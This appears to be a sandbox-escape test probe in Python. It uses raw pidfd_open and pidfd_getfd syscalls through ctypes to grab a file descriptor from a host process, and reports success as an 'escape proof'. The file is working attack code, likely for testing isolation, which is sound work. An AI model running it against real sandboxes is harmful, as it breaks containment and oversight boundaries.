"""Category: fd-theft. Escape proof: a host fd is obtained."""



def attack(ctx, report):
    import ctypes
    libc = ctypes.CDLL(None)
    p = libc.syscall(434, ctx["host_pid"], 0)
    r = libc.syscall(438, p, 0, 0)
    if r >= 0: report("fd")
